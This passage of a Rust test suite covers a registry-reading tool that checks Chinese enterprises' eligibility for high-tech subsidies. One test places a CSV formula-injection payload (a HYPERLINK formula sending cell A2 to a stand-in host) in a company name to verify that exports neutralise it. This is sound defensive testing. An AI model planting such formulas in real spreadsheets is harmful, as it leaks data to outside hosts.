    // The same table as an .xlsx.
    let xlsx = batch.export_notification(star, NOTIFY_WORDS_ZH, "xlsx").unwrap();
    use calamine::Reader;
    let mut book: calamine::Xlsx<_> = calamine::Xlsx::new(std::io::Cursor::new(xlsx)).unwrap();
    let range = book.worksheet_range_at(0).unwrap().unwrap();
    let cells: Vec<Vec<String>> = range.rows().map(|r| r.iter().map(ToString::to_string).collect()).collect();
    assert_eq!(cells, rows);

    assert!(batch.export_notification("nope", NOTIFY_WORDS_ZH, "csv").unwrap_err().to_string().starts_with("measure:"));
    assert!(batch.export_notification(star, "{}", "csv").unwrap_err().to_string().starts_with("notification words:"));
    assert!(batch.export_notification(star, NOTIFY_WORDS_ZH, "pdf").unwrap_err().to_string().starts_with("format:"));
}

#[test]
fn a_contradiction_is_data_for_words_in_the_pages_language() {
    let text = "企业名称,所在省份,所在高新区,是否高新技术企业\r\n甲,四川,重庆高新区,是\r\n";
    let mut batch = read(text.as_bytes());
    batch.run(0, 1, TRIAL_AS_OF).unwrap();
    let error = &summary(&batch)["errors"][0];
    assert_eq!((error["column"].as_u64(), error["value"].as_str()), (Some(2), Some("四川")), "{error}");
    assert_eq!(
        error["detail"],
        serde_json::json!({
            "kind": "zoneContradiction", "zone": "chongqing",
            "given": { "zh-Hans": "四川省", "en": "Sichuan" }, "implied": { "zh-Hans": "重庆市", "en": "Chongqing" },
            "otherHeader": "所在高新区"
        })
    );
}

#[test]
fn expiry_dates_in_every_form_and_a_month_that_cannot_tell() {
    let text = "企业名称,所在高新区,是否高新技术企业,证书有效期至,是否规上,营业收入（万元）\r\n\
                甲,重庆高新区,是,20240312,是,9000\r\n\
                乙,重庆高新区,是,2028年5月,是,9000\r\n\
                丙,重庆高新区,是,2026-12,是,9000\r\n\
                丁,重庆高新区,,2027年,是,9000\r\n";
    let mut batch = read(text.as_bytes());
    assert_eq!(describe(&batch)["mapping"][3], "highTechCertificateExpiry");
    batch.run(0, 4, TRIAL_AS_OF).unwrap();
    let s = summary(&batch);
    assert_eq!((s["failed"].as_u64(), s["expiredCertificates"].as_u64()), (Some(0), Some(1)), "{s}");
    let loan = "chongqing.knowledge-value-loan";
    assert_eq!(status_at(&batch, 2, loan), "ineligible", "expired 2024-03-12");
    assert_eq!(status_at(&batch, 3, loan), status_at(&batch, 5, loan), "valid through 2028-05 and 2027: yes");
    assert_ne!(status_at(&batch, 3, loan), "ineligible");
    // December 2026 on 2026-12-06: the certificate may or may not be valid.
    let index = hitech_eligibility::shell::batch::check::measures().iter().position(|m| m.id == loan).unwrap();
    let rows = table(&batch, "", "");
    assert_eq!(rows["rows"][2]["statuses"][index], "unknown");
    assert!(rows["rows"][2]["missing"][index].as_array().unwrap().contains(&Value::from("highTechEnterprise")));
}

#[test]
fn a_yes_no_columns_values_are_listed_with_how_they_read_and_can_be_mapped() {
    let text = "企业名称,所在高新区,是否科技型中小企业\r\n甲,重庆高新区,是\r\n乙,重庆高新区,在库\r\n丙,重庆高新区,在库\r\n丁,重庆高新区,申报中\r\n";
    let mut batch = read(text.as_bytes());
    let values = |batch: &Batch| json(&serde_json::to_string(&batch.values(2, 10)).unwrap());
    assert_eq!(
        values(&batch),
        serde_json::json!([
            { "value": "在库", "count": 2, "read": "error", "mapped": null },
            { "value": "是", "count": 1, "read": "true", "mapped": null },
            { "value": "申报中", "count": 1, "read": "unknown", "mapped": null },
        ])
    );
    assert_eq!(values(&batch)[0]["count"], 2);
    assert!(batch.values(0, 10).is_empty(), "a name is not a fact's value");
    let zones = batch.values(1, 10);
    assert_eq!((zones.len(), zones[0].count, zones[0].read), (1, 4, "chongqing"), "a choice column's facet");
    batch.set_values(2, r#"{"在库": "是"}"#).unwrap();
    assert_eq!(values(&batch)[0]["mapped"], "是");
    batch.run(0, 4, TRIAL_AS_OF).unwrap();
    assert_eq!(summary(&batch)["failed"], 0);
    assert_eq!(json(&batch.mapping_file())["values"]["是否科技型中小企业"]["在库"], "是");
    batch.set_values(2, "{}").unwrap();
    batch.run(0, 4, TRIAL_AS_OF).unwrap();
    assert_eq!(summary(&batch)["failed"], 2);
    assert!(batch.set_values(9, "{}").is_err());
}

#[test]
fn a_filled_circle_reads_yes_and_an_open_one_is_left_to_staff_naming_the_value() {
    let text = "企业名称,所在高新区,是否高新技术企业\r\n甲,重庆高新区,●\r\n乙,重庆高新区,○\r\n丙,重庆高新区,○\r\n";
    let mut batch = read(text.as_bytes());
    batch.run(0, 3, TRIAL_AS_OF).unwrap();
    assert_eq!(summary(&batch)["failed"], 2, "○ is not guessed");
    // The error names the value read, and the column's values offer it for mapping.
    let error = &summary(&batch)["errors"][0];
    assert_eq!((error["row"].as_u64(), error["value"].as_str()), (Some(3), Some("○")), "{error}");
    let values = json(&serde_json::to_string(&batch.values(2, 10)).unwrap());
    assert_eq!(
        values,
        serde_json::json!([
            { "value": "○", "count": 2, "read": "error", "mapped": null },
            { "value": "●", "count": 1, "read": "true", "mapped": null },
        ])
    );
    // A registry whose ○ means "no" says so once.
    batch.set_values(2, r#"{"○": "否"}"#).unwrap();
    batch.run(0, 3, TRIAL_AS_OF).unwrap();
    assert_eq!(summary(&batch)["failed"], 0);
    let rows = table(&batch, "", "");
    assert_eq!(rows["rows"].as_array().unwrap().len(), 3);
}

/// An .xlsx of the 1904 date system (`<workbookPr date1904="1"/>`, Excel
/// for Mac's old default): its date cells are the days Excel shows. They
/// were read 1,462 days (four years and a day) early.
#[test]
fn an_xlsx_of_the_1904_date_system_reads_the_days_excel_shows() {
    use std::io::{Read, Write};
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    let date = rust_xlsxwriter::Format::new().set_num_format("yyyy-mm-dd");
    sheet.write_string(0, 0, "企业名称").unwrap();
    sheet.write_string(0, 1, "高企证书有效期至").unwrap();
    sheet.write_string(1, 0, "甲公司").unwrap();
    // 2026-11-07 is serial 46333 in the 1900 system, 44871 in the 1904 one.
    sheet.write_number_with_format(1, 1, 44_871.0, &date).unwrap();
    let bytes = workbook.save_to_buffer().unwrap();
    // The same parts, the workbook's properties saying 1904.
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for index in 0..archive.len() {
        let mut entry = archive.by_index(index).unwrap();
        let name = entry.name().map(|name| name.into_owned()).unwrap();
        let mut text = Vec::new();
        entry.read_to_end(&mut text).unwrap();
        if name == "xl/workbook.xml" {
            let xml = String::from_utf8(text).unwrap();
            let patched = xml.replacen("<workbookPr", "<workbookPr date1904=\"1\"", 1);
            assert_ne!(patched, xml, "a workbookPr to mark");
            text = patched.into_bytes();
        }
        out.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        out.write_all(&text).unwrap();
    }
    let bytes = out.finish().unwrap().into_inner();
    let batch = read(&bytes);
    assert_eq!(describe(&batch)["sample"][0], serde_json::json!(["甲公司", "2026-11-07"]));
}

#[test]
fn a_percentage_cell_of_an_xlsx_is_read_as_it_is_shown() {
    // 0.0479 formatted 0.00% is 4.79% on screen: read so, not as the fraction.
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    let percent = rust_xlsxwriter::Format::new().set_num_format("0.00%");
    let whole = rust_xlsxwriter::Format::new().set_num_format("0%");
    let quoted = rust_xlsxwriter::Format::new().set_num_format("0.00\"%\"");
    for (column, header) in ["企业名称", "研发投入占比", "增长率", "营业收入（万元）", "备注"].iter().enumerate()
    {
        sheet.write_string(0, u16::try_from(column).unwrap(), *header).unwrap();
    }
    sheet.write_string(1, 0, "甲公司").unwrap();
    sheet.write_number_with_format(1, 1, 0.0479, &percent).unwrap();
    sheet.write_number_with_format(1, 2, 0.125, &whole).unwrap();
    sheet.write_number(1, 3, 0.0479).unwrap();
    sheet.write_number_with_format(1, 4, 0.5, &quoted).unwrap();
    let bytes = workbook.save_to_buffer().unwrap();
    let batch = read(&bytes);
    let described = describe(&batch);
    assert_eq!(described["sample"][0], serde_json::json!(["甲公司", "4.79%", "12.5%", "0.0479", "0.5"]));
    // The export keeps the registry's cells as they were shown.
    let csv = String::from_utf8(batch.export_csv()).unwrap();
    assert!(csv.contains("4.79%"), "{}", &csv[..200.min(csv.len())]);
    // A percentage is no amount of money: mapped to one, it is an error naming the value.
    let mut batch = read(&bytes);
    batch.set_mapping(r#"["@name", "revenueYuan", null, null, null]"#).unwrap();
    batch.run(0, 1, TRIAL_AS_OF).unwrap();
    let error = &summary(&batch)["errors"][0];
    assert_eq!(error["value"], "4.79%", "{error}");
}

/// The same in an old binary .xls (tests/fixtures/batch/generate_percent_xls.py):
/// Excel's built-in percentage formats and one of the file's own; calamine
/// gives the bare fractions, and a clerk's 研发投入占比 of 4.79% was read as
/// 0.0479.
#[test]
fn a_percentage_cell_of_an_xls_is_read_as_it_is_shown() {
    let batch = read(&fixture("percent.xls"));
    assert_eq!(
        describe(&batch)["sample"][0],
        serde_json::json!(["甲公司", "4.79%", "12.5%", "0.0479", "0.5", "33.3%"])
    );
    let csv = String::from_utf8(batch.export_csv()).unwrap();
    assert!(csv.contains("4.79%") && csv.contains("33.3%"), "{}", &csv[..200.min(csv.len())]);
}

#[test]
fn the_whole_table_for_people_has_the_pages_words_and_only_the_measures_asked() {
    let mut batch = read(trial_registry().as_bytes());
    batch.set_settings(r#"{"zone": "chongqing"}"#).unwrap();
    batch.run(0, usize::MAX, TRIAL_AS_OF).unwrap();
    let words = r#"{
        "codeCheck": "信用代码校验", "error": "数据有误", "resultSuffix": "：结果", "missingSuffix": "：缺少的信息",
        "measures": [["chongqing.star-listing-award", "科创板上市奖励"], ["chongqing.knowledge-value-loan", "知识价值信用贷款"]],
        "statuses": {"eligible": "可以申请", "conditional": "尚需他人决定", "unknown": "还需更多信息", "ineligible": "不适用"},
        "facts": {"techSme": "科技型中小企业"}, "separator": "、",
        "errors": {"10": "读到“2026-13-01”：没有这一天。"}
    }"#;
    let bytes = batch.export_readable(words, "csv").unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&bytes[3..]);
    let rows: Vec<Vec<String>> = reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
    assert_eq!(rows.len(), 9, "rows in = rows out");
    assert_eq!(
        rows[0][14..],
        [
            "信用代码校验",
            "数据有误",
            "科创板上市奖励：结果",
            "科创板上市奖励：缺少的信息",
            "知识价值信用贷款：结果",
            "知识价值信用贷款：缺少的信息"
        ]
    );
    assert_eq!(rows[1][16], "可以申请", "甲");
    assert_eq!(rows[2][16], "不适用", "乙, 创业板");
    assert_eq!(rows[7][15], "读到“2026-13-01”：没有这一天。", "the page's words for the error row");
    assert_eq!(rows[5][14], "same credit code as row 4");
    assert!(rows.iter().all(|r| r.len() == 20));
    let xlsx = batch.export_readable(words, "xlsx").unwrap();
    assert!(xlsx.starts_with(b"PK\x03\x04"));
    let unknown = r#"{"codeCheck": "", "error": "", "resultSuffix": "", "missingSuffix": "", "measures": [["nope", "x"]], "statuses": {}}"#;
    assert!(batch.export_readable(unknown, "csv").unwrap_err().to_string().starts_with("measure:"));
}

#[test]
fn a_notification_list_writes_a_registry_name_that_would_start_a_formula_as_text() {
    let registry = "企业名称,所在高新区,是否高新技术企业,是否规上,是否在科创板上市,联系电话\r\n\
                    \"=HYPERLINK(\"\"http://x.test/?\"\"&A2)\",重庆高新区,是,是,是,+8613800000000\r\n";
    let mut batch = read(registry.as_bytes());
    batch.run(0, usize::MAX, TRIAL_AS_OF).unwrap();
    let csv_bytes = batch.export_notification("chongqing.star-listing-award", NOTIFY_WORDS_ZH, "csv").unwrap();
    let text = String::from_utf8(csv_bytes).unwrap();
    assert!(text.contains("'=HYPERLINK("), "{text}");
    assert!(text.contains("'+8613800000000"), "{text}");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell:?}");
        }
    }
}

#[test]
fn a_choice_column_lists_its_values_with_counts_and_reads_each_as_a_value_or_unknown() {
    let mut batch = read(trial_registry().as_bytes());
    let park = describe(&batch)["headers"].as_array().unwrap().iter().position(|h| h == "所属园区").unwrap();
    assert_eq!(describe(&batch)["mapping"][park], "zone");
    let facet = |batch: &Batch| -> Vec<(String, usize, String)> {
        batch.values(park, 10).into_iter().map(|v| (v.value, v.count, v.read.to_owned())).collect()
    };
    // The parks are not in the directory: errors, until the file has a zone.
    let before = facet(&batch);
    assert_eq!(before[0], ("西永微电子产业园".to_owned(), 3, "error".to_owned()), "{before:?}");
    assert!(before.contains(&("重庆高新区".to_owned(), 1, "chongqing".to_owned())), "{before:?}");
    assert_eq!(before.iter().map(|v| v.1).sum::<usize>(), 7, "the blank cell is not a value");
    batch.set_settings(r#"{"zone": "chongqing"}"#).unwrap();
    assert!(facet(&batch).iter().all(|v| v.2 == "chongqing"), "{:?}", facet(&batch));
    // Mapped by staff: one park is outside the zones (none), one unknown.
    batch.set_values(park, r#"{"大学城科技园": "none", "西部（重庆）科学城": null}"#).unwrap();
    let mapped: Vec<(String, Option<String>)> =
        batch.values(park, 10).into_iter().map(|v| (v.value, v.mapped)).collect();
    assert!(mapped.contains(&("大学城科技园".to_owned(), Some("none".to_owned()))), "{mapped:?}");
    // Values are listed as read (full-width brackets folded).
    assert!(mapped.contains(&("西部(重庆)科学城".to_owned(), Some(String::new()))), "{mapped:?}");
    batch.run(0, usize::MAX, TRIAL_AS_OF).unwrap();
    // The 3 西永 rows, the one mapped to unknown and the blank one take the
    // file's zone; the 2 大学城 rows, mapped to "not in a zone", do not.
    assert_eq!(summary(&batch)["zoneFromFile"], 5);
    // Every choice target offers its values to map to.
    let targets = serde_json::to_value(hitech_eligibility::shell::batch::targets()).unwrap();
    let choices = |target: &str| -> Vec<Value> {
        let found = targets.as_array().unwrap().iter().find(|t| t["target"] == target).unwrap();
        assert_eq!(found["kind"], "choice", "{target}");
        found["choices"].as_array().unwrap().iter().map(|c| c["value"].clone()).collect()
    };
    assert!(choices("zone").contains(&Value::from("chongqing")) && choices("zone").contains(&Value::from("none")));
    assert_eq!(choices("province"), ["sichuan", "chongqing", "guizhou", "other"]);
    assert_eq!(choices("zoneLevel").len(), 3);
}

#[test]
fn totals_notes_rough_amounts_periods_and_register_numbers_as_a_zones_export_has_them() {
    // As a 成都高新区 export comes: a validity period instead of an expiry,
    // 约 before an amount, 暂无 and 无, a register's number for yes, and a
    // total and a note below the data.
    let text = "序号,企业名称,统一社会信用代码,所属片区,营业收入（万元）,研发费用（万元）,是否规上,证书有效期,科技型中小企业\r\n\
                1,甲,91350100M000100Y43,天府软件园,约745,120,是,2024.02.16-2027.02.15,2025年入库\r\n\
                2,乙,91500000202814256L,高新南区,暂无,无,是,2022.02.16-2025.02.15,入库编号2025510107A0001234\r\n\
                3,丙,,新川创新科技园,9000,500余,是,无,未入库\r\n\
                ,高新南区小计,,,9000,,,,\r\n\
                ,合计,,,=SUM(E2:E4),,,,\r\n\
                填表说明：营业收入以税务申报数为准。,,,,,,,,\r\n";
    let mut batch = read(text.as_bytes());
    assert_eq!(describe(&batch)["mapping"][7], "highTechCertificateExpiry");
    batch.set_settings(r#"{"zone": "chengdu"}"#).unwrap();
    batch.run(0, 6, TRIAL_AS_OF).unwrap();
    let s = summary(&batch);
    let errors = s["errors"].as_array().unwrap();
    let kinds: Vec<(u64, &str, &str)> = errors
        .iter()
        .map(|e| (e["row"].as_u64().unwrap(), e["detail"]["kind"].as_str().unwrap(), e["value"].as_str().unwrap()))
        .collect();
    assert_eq!(
        kinds,
        [
            (5, "notAnEnterprise", "高新南区小计"),
            (6, "notAnEnterprise", "合计"),
            (7, "notAnEnterprise", "填表说明：营业收入以税务申报数为准。")
        ],
        "the three enterprises are read; the total and the note are not enterprises"
    );
    assert_eq!(s["approximateAmounts"], 2, "约745 and 500余: unknown, not the number");
    assert_eq!(s["expiredCertificates"], 0, "no row said 是否高新 yes; the period's end alone decides");
    // The period's end is the expiry: valid on 2026-12-06 for 甲, expired for 乙.
    let rows = table(&batch, "", "");
    let hte = Value::from("highTechEnterprise");
    let rd = Value::from("rdExpenseYuan");
    let any_reading = |row: usize, fact: &Value| {
        rows["rows"][row]["missing"].as_array().unwrap().iter().any(|m| m.as_array().is_some_and(|m| m.contains(fact)))
    };
    assert!(!any_reading(0, &hte) && !any_reading(1, &hte), "both periods are read");
    assert!(any_reading(2, &hte), "无: no expiry stated, high-tech unknown");
    assert!(!any_reading(0, &rd), "120万 is read");
    assert!(any_reading(1, &rd) && any_reading(2, &rd), "无 and 500余 are unknown amounts");
}

#[test]
fn a_workbook_whose_first_sheet_is_a_note_is_read_from_the_registrys_sheet() {
    let workbook = |note_first: bool| {
        let mut workbook = rust_xlsxwriter::Workbook::new();
        if note_first {
            let note = workbook.add_worksheet().set_name("填表说明").unwrap();
            note.write_string(0, 0, "填表说明").unwrap();
            note.write_string(1, 0, "1. 营业收入以税务申报数为准。").unwrap();
        }
        let sheet = workbook.add_worksheet().set_name("企业名册").unwrap();
        for (column, header) in ["企业名称", "所在高新区", "是否高新技术企业"].iter().enumerate() {
            sheet.write_string(0, u16::try_from(column).unwrap(), *header).unwrap();
        }
        for (row, name) in [(1, "甲公司"), (2, "乙公司"), (3, "丙公司")] {
            sheet.write_string(row, 0, name).unwrap();
            sheet.write_string(row, 1, "重庆高新区").unwrap();
            sheet.write_string(row, 2, "是").unwrap();
        }
        workbook.save_to_buffer().unwrap()
    };
    let described = describe(&read(&workbook(true)));
    assert_eq!(described["worksheet"], serde_json::json!({ "number": 2, "name": "企业名册" }));
    assert_eq!(described["rows"], 3, "the registry's rows, not the note's lines");
    assert_eq!(described["mapping"][2], "highTechEnterprise");
    // The registry first: nothing to say.
    let described = describe(&read(&workbook(false)));
    assert!(described.get("worksheet").is_none(), "{described}");
    assert_eq!(described["rows"], 3);
}

#[test]
fn a_header_of_two_rows_is_read_as_one() {
    // 多级表头: 企业名称 and 统一社会信用代码 merged down over two rows, 高企证书
    // and 经营情况 merged across their columns with the columns' names below.
    let text = "序号,企业名称,统一社会信用代码,所在高新区,高企证书,,经营情况,\r\n\
                ,,,,证书编号,有效期至,营业收入（万元）,研发费用（万元）\r\n\
                1,甲,91350100M000100Y43,重庆高新区,GR2023,2027-01-01,9000,500\r\n\
                2,乙,91500000202814256L,重庆高新区,GR2021,2024-03-12,9000,500\r\n";
    let mut batch = read(text.as_bytes());
    let described = describe(&batch);
    assert_eq!(described["rows"], 2, "the second header row is not an enterprise");
    assert_eq!(
        described["headers"],
        serde_json::json!([
            "序号",
            "企业名称",
            "统一社会信用代码",
            "所在高新区",
            "证书编号",
            "高企证书有效期至",
            "营业收入（万元）",
            "研发费用（万元）"
        ])
    );
    let mapping = described["mapping"].as_array().unwrap();
    assert_eq!((mapping[4].as_str(), mapping[5].as_str()), (Some("@certificate"), Some("highTechCertificateExpiry")));
    assert_eq!((mapping[6].as_str(), mapping[7].as_str()), (Some("revenueYuan"), Some("rdExpenseYuan")));
    batch.run(0, 2, TRIAL_AS_OF).unwrap();
    let s = summary(&batch);
    assert_eq!((s["failed"].as_u64(), s["expiredCertificates"].as_u64()), (Some(0), Some(0)), "{s}");
    assert_eq!(
        status_at(&batch, 4, "chongqing.knowledge-value-loan"),
        "ineligible",
        "乙's certificate expired 2024-03-12"
    );
    assert_ne!(status_at(&batch, 3, "chongqing.knowledge-value-loan"), "ineligible");

    // A data row right under a one-row header is data, whatever it holds.
    let plain = "企业名称,统一社会信用代码,高企证书\r\n甲,91350100M000100Y43,有效期至\r\n";
    let described = describe(&read(plain.as_bytes()));
    assert_eq!(described["rows"], 1, "its name and code are filled: an enterprise");
}

/// The credit codes are read once per code column: setting the settings or
/// the mapping again (as every run on the page does) keeps them, and mapping
/// another column as the code reads that column's.
#[test]
fn credit_codes_follow_the_code_column_when_it_is_remapped() {
    let csv = "企业名称,统一社会信用代码,备用代码\r\n\
               甲,91350100M000100Y43,91350100M000100Y43\r\n\
               乙,91350100M000100Y43,X1\r\n\
               丙,X2,X1\r\n";
    let mut batch = read(csv.as_bytes());
    let described = json(&serde_json::to_string(&batch.describe()).unwrap());
    assert_eq!(described["mapping"], serde_json::json!(["@name", "@code", null]));
    let duplicates = |batch: &mut Batch| {
        batch.run(0, 3, "2026-12-06").unwrap();
        let rows = table(batch, "", "");
        let of = |row: u64| {
            rows["rows"].as_array().unwrap().iter().find(|r| r["row"] == row).unwrap()["duplicateOf"].clone()
        };
        (summary(batch)["duplicates"].as_u64(), of(3), of(4))
    };
    assert_eq!(duplicates(&mut batch), (Some(1), Value::from(2), Value::Null));
    batch.set_settings(r#"{"zone": "chongqing"}"#).unwrap();
    batch.set_mapping(r#"["@name", "@code", null]"#).unwrap();
    assert_eq!(duplicates(&mut batch), (Some(1), Value::from(2), Value::Null), "the same column: the same codes");
    batch.set_mapping(r#"["@name", null, "@code"]"#).unwrap();
    assert_eq!(duplicates(&mut batch), (Some(1), Value::Null, Value::from(3)), "the other column's codes");
    batch.set_mapping(r#"["@name", null, null]"#).unwrap();
    assert_eq!(duplicates(&mut batch), (Some(0), Value::Null, Value::Null), "no code column: no repeats");
    batch.set_mapping(r#"["@name", "@code", null]"#).unwrap();
    assert_eq!(duplicates(&mut batch), (Some(1), Value::from(2), Value::Null), "back to the first");
    assert!(String::from_utf8(batch.export_csv()).unwrap().contains("same credit code as row 2"));
}

/// The summary's errors carry the value as every message quotes it
/// (`shown`: trimmed, cut at 40 characters with …), so that the page's table
/// for people cuts it by the same rule as `check --csv` and the export.
#[test]
fn the_summary_quotes_a_refused_value_as_the_export_does() {
    // (Not 约…: a rough amount is unknown now, not an error.)
    let long = format!("{}万", "九".repeat(45));
    let csv = format!("企业名称,营业收入（万元）,是否高新技术企业\r\n甲, {long} ,否\r\n乙,5OO,否\r\n丙,100,也许\r\n");
    let mut batch = read(csv.as_bytes());
    batch.run(0, 3, AS_OF).unwrap();
    let s = summary(&batch);
    let errors = s["errors"].as_array().unwrap();
    let shown = |row: u64| errors.iter().find(|e| e["row"] == row).unwrap()["shown"].as_str().unwrap().to_owned();
    let cut: String = long.chars().take(40).chain(['…']).collect();
    assert_eq!(shown(2), cut, "trimmed and cut at 40 characters");
    assert_eq!(shown(3), "5OO", "a short value whole");
    assert_eq!(shown(4), "也许");
    assert_eq!(export::shown_value(&"九".repeat(40)), "九".repeat(40), "40 characters are not cut");
    // The export's error cell quotes the same.
    let exported = String::from_utf8(batch.export_csv()).unwrap();
    assert!(exported.contains(&format!("\"{cut}\"")), "{exported}");
}

/// A registry not seen before (issue 22): 璧山高新区's list as its staff
/// export it (tests/fixtures/batch/generate_bishan.py), as an .xlsx and as
/// Excel's tab-separated GB18030 text of the same sheet. Before this reading,
/// 33 of its 124 rows were refused (13 certificate dates as Excel serial
/// numbers, 4 as a date-and-time, 未填报, 新三板挂牌), its heading row was
/// checked as an enterprise, and its 企业资质 column (several qualifications
/// in a cell) was not read at all; now only its three typos are refused, and
/// its heading, total and note are said to be no enterprises.
#[test]
fn a_bishan_registry_reads_as_its_staff_export_it() {
    let mut results = Vec::new();
    for name in ["registry-bishan.xlsx", "registry-bishan.csv"] {
        let mut batch = read(&fixture(name));
        let described = describe(&batch);
        assert_eq!(described["rows"], 124, "{name}: a heading, 120 firms, one twice, a total and a note");
        let mapping = described["mapping"].as_array().unwrap();
        let targets: Vec<Option<&str>> = mapping.iter().map(Value::as_str).collect();
        assert_eq!(
            targets,
            [
                None,
                None,
                Some("@name"),
                Some("@code"),
                Some("zone"),
                Some("qualifications"),
                Some("highTechCertificateExpiry"),
                Some("aboveDesignatedSize"),
                Some("revenueYuan"),
                Some("rdExpenseYuan"),
                None,
                Some("listedOnStarMarket"),
                None,
                None,
                None
            ],
            "{name}: a header with a line break or a trailing space is still its words; a percentage is no amount"
        );
        batch.set_settings(r#"{"zone": "bishan"}"#).unwrap();
        batch.run(0, 124, TRIAL_AS_OF).unwrap();
        let s = summary(&batch);
        assert_eq!(s["failed"], 6, "{name}: {s}");
        let errors = s["errors"].as_array().unwrap();
        let at: Vec<(u64, u64, &str, &str)> = errors
            .iter()
            .map(|e| {
                let row = e["row"].as_u64().unwrap();
                (
                    row,
                    e["column"].as_u64().unwrap(),
                    e["value"].as_str().unwrap(),
                    e["detail"]["kind"].as_str().unwrap(),
                )
            })
            .collect();
        assert_eq!(
            at[..4],
            [
                (3, 2, "一、名录企业（121家）", "sectionHeading"),
                (21, 8, "是否", "yesNo"),
                (45, 7, "2026-02-30", "notADate"),
                (81, 9, "1.2o", "unknown")
            ],
            "{name}: the heading and the typos"
        );
        assert!(errors[4..].iter().all(|e| e["detail"]["kind"] == "notAnEnterprise"), "{name}: {errors:?}");
        assert_eq!(s["duplicates"], 1, "{name}: the same code in lower case");
        assert_eq!(s["invalidCodes"], 0, "{name}: spaces, lower case and full width are the same code");
        assert_eq!(s["expiredCertificates"], 34, "{name}: 高新技术企业 in 企业资质, expired by the check date");
        assert_eq!(s["unreadQualifications"], 22, "{name}: 专精特新中小企业 is no fact here");
        // Row 10: 高新技术企业 and 科技型中小企业 on two lines of one cell, the
        // certificate to serial 45796 (2025-05-19): expired, still a tech SME.
        assert_eq!(status_at(&batch, 10, "chongqing.knowledge-value-loan"), "ineligible");
        assert_eq!(status_at(&batch, 10, "chongqing.tech-sme-procurement"), "informational");
        // Row 4: 高新技术企业, valid to 2027年7月21日, 规上 ✓, revenue 7.6929 亿元.
        assert_eq!(status_at(&batch, 4, "chongqing.knowledge-value-loan"), "conditional");
        // Row 5: 企业资质 "—", 规上 是: nothing said of the certificate, unknown (never a guessed yes).
        assert_eq!(status_at(&batch, 5, "chongqing.knowledge-value-loan"), "unknown");
        // Row 15: certificate "2027-01-03 00:00:00", pasted from a system: valid.
        assert_eq!(status_at(&batch, 15, "chongqing.high-tech-enterprise-income-tax"), "informational");
        let rows = table(&batch, "", "");
        let statuses: Vec<Value> = rows["rows"].as_array().unwrap().iter().map(|r| r["statuses"].clone()).collect();
        results.push(statuses);
    }
    assert_eq!(results[0], results[1], "the .xlsx and its text export: the same statuses, row for row");
}

/// A qualification in 企业资质 that another column of the row contradicts
/// is unknown, not either column's answer, and the rows are counted.
#[test]
fn a_qualification_against_another_column_is_unknown() {
    let csv = "企业名称,企业资质,是否高新技术企业,是否规上\r\n\
               甲,高新技术企业、科技型中小企业,否,是\r\n\
               乙,高新技术企业,是,是\r\n\
               丙,科技型中小企业,,是\r\n";
    let mut batch = read(csv.as_bytes());
    batch.set_settings(r#"{"zone": "chongqing"}"#).unwrap();
    batch.run(0, 3, TRIAL_AS_OF).unwrap();
    let s = summary(&batch);
    assert_eq!((s["failed"].as_u64(), s["unsureQualifications"].as_u64()), (Some(0), Some(1)), "{s}");
    assert_eq!(status_at(&batch, 2, "chongqing.knowledge-value-loan"), "unknown", "是 against 否: unknown");
    assert_eq!(status_at(&batch, 3, "chongqing.knowledge-value-loan"), "conditional", "both say yes");
    assert_eq!(status_at(&batch, 4, "chongqing.knowledge-value-loan"), "unknown", "not named: unknown, not no");
    assert_eq!(status_at(&batch, 2, "chongqing.tech-sme-procurement"), "informational");
}

/// A heading between groups of rows (its only value) is no enterprise; a
/// firm whose row gives its name alone still is.
#[test]
fn a_section_heading_is_not_an_enterprise() {
    let csv = "企业名称,统一社会信用代码,是否高新技术企业\r\n\
               一、璧泉片区,,\r\n\
               甲,91350100M000100Y43,是\r\n\
               （二）青杠片区（35家）,,\r\n\
               来凤片区（2家）,,\r\n\
               共2家,,\r\n\
               一心科技有限公司,,\r\n\
               十、其他,91500000202814256L,\r\n";
    let mut batch = read(csv.as_bytes());
    batch.run(0, 7, TRIAL_AS_OF).unwrap();
    let s = summary(&batch);
    let headings: Vec<u64> = s["errors"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["detail"]["kind"] == "sectionHeading")
        .map(|e| e["row"].as_u64().unwrap())
        .collect();
    assert_eq!(headings, [2, 4, 5, 6], "{s}");
    assert_eq!(s["failed"], 4, "一心科技有限公司 and a row with a code are enterprises: {s}");
}

/// Excel's "Unicode 文本" (UTF-16 after its byte-order mark, tab-separated)
/// reads as the same sheet saved as GB18030 text: the same export, byte
/// for byte. It was refused as a binary file.
#[test]
fn a_unicode_text_export_reads_as_its_gb18030_twin() {
    let gbk = fixture("registry-bishan.csv");
    let text = encoding_rs::GB18030.decode_without_bom_handling(&gbk).0.into_owned();
    let export = |bytes: &[u8]| {
        let mut batch = read(bytes);
        let encoding = describe(&batch)["encoding"].clone();
        batch.set_settings(r#"{"zone": "bishan"}"#).unwrap();
        batch.run(0, usize::MAX, TRIAL_AS_OF).unwrap();
        (encoding, batch.export_csv())
    };
    let (encoding, expected) = export(&gbk);
    assert_eq!(encoding, "gb18030");
    let le: Vec<u8> = "\u{feff}".encode_utf16().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    let be: Vec<u8> = "\u{feff}".encode_utf16().chain(text.encode_utf16()).flat_map(u16::to_be_bytes).collect();
    assert_eq!(export(&le), (Value::from("utf-16le"), expected.clone()));
    assert_eq!(export(&be), (Value::from("utf-16be"), expected));
    // Without its byte-order mark, UTF-16 is still refused, not read as garbage.
    let bare: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert!(refused(&bare, "auto", "auto").contains("UTF-16 text without its byte-order mark"));
}

/// A workbook of one sheet per park numbers each sheet's rows from its own
/// header: the same enterprise in two sheets is a repeat of the row *and
/// sheet* where it first came. Before, a repeat on the same row number of
/// another sheet was not seen at all, and one on another row was named by
/// its row alone, which staff looked up in the wrong sheet.
#[test]
fn a_repeat_in_another_sheet_names_the_sheet() {
